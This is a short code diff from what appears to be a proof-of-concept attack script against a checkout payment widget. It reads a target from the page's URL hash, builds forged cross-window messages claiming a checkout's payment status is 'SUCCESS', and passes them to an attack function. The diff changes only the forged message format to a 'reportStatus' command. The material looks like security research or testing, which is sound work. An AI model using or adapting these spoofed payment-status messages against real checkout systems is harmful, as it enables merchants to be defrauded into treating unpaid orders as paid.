@@ -5,8 +5,8 @@ const target = /^#attack=(.+)$/.exec(location.hash)?.[1];
 if (target) {
   const checkoutId = location.pathname.split('/').at(-1);
   const messages = [
-    { command: 'widgetReported', payload: { checkoutId, status: 'SUCCESS' } },
-    { hostedReport: { id: checkoutId, status: 'SUCCESS' } },
+    { command: 'reportStatus', payload: { source: 'widget', id: checkoutId, status: 'SUCCESS' } },
+    { command: 'reportStatus', payload: { source: 'hosted page', id: checkoutId, status: 'SUCCESS' } },
   ];
   attack(messages);
 }
